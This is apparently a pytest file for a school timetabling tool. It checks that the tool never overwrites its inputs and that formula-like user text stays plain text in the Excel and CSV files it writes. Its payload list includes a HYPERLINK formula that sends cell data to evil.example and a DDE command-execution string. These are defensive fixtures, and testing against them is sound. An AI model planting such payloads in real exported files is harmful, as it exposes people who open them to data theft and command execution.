"""Hostile input (issue 18, first part): keste never writes over what the user gave it, and a
user's text that looks like a formula stays text in every workbook and CSV it writes."""

from __future__ import annotations

from openpyxl import load_workbook

from benchmarks.schools.general import SAMPLES, make_school
from keste.models.io.reading import write_school
from keste.models.io.substitutions import read_history, write_history
from keste.models.substitution import Substitution
from tests.conftest import SAMPLES_DIR, digest, run

PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0")


def _formula_cells(path) -> list[str]:
    book = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_the_log_never_overwrites_an_input_or_the_timetable(tmp_path, runner):
    school = tmp_path / "school.xlsx"
    school.write_bytes((SAMPLES_DIR / "small.xlsx").read_bytes())
    before = digest(school)
    result = run(runner, "solve", school, "-o", tmp_path / "tt.xlsx", "--log", school)
    assert result.exit_code == 2 and "never overwrites its input" in result.output
    assert digest(school) == before and not (tmp_path / "tt.xlsx").exists()
    same = run(runner, "solve", school, "-o", tmp_path / "tt.xlsx", "--log", tmp_path / "tt.xlsx")
    assert same.exit_code == 2 and "the same file" in " ".join(same.output.split())


def test_names_that_look_like_formulas_stay_text(tmp_path, runner):
    school = make_school(SAMPLES["small"])
    for teacher, payload in zip(school.teachers, PAYLOADS, strict=False):
        teacher.name = payload
    school.settings.name = PAYLOADS[0]
    path = tmp_path / "school.xlsx"
    write_school(school, path)
    assert _formula_cells(path) == []
    out = tmp_path / "tt.xlsx"
    assert run(runner, "solve", path, "-o", out, "--time-limit", "10").exit_code == 0
    assert _formula_cells(out) == []
    texts = [
        c.value
        for s in load_workbook(out).worksheets
        for r in s.iter_rows()
        for c in r
        if isinstance(c.value, str)
    ]
    assert all(any(payload in text for text in texts) for payload in PAYLOADS)
    assert run(runner, "validate", path, out).exit_code == 0  # keste reads its output back


def test_the_substitution_history_neutralises_formulas_and_reads_back(tmp_path):
    rows = [
        Substitution(
            "2026-12-0" + str(i), "Mon", 1, 480, 525, "7A", None, text, "T1", text, "subject"
        )
        for i, text in enumerate([*PAYLOADS, "@SUM(1+1)", "-2+3", "'quoted", "plain"], start=1)
    ]
    path = tmp_path / "history.csv"
    write_history(path, rows)
    text = path.read_text(encoding="utf-8")
    for line in text.splitlines()[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(","))
    assert read_history(path) == rows
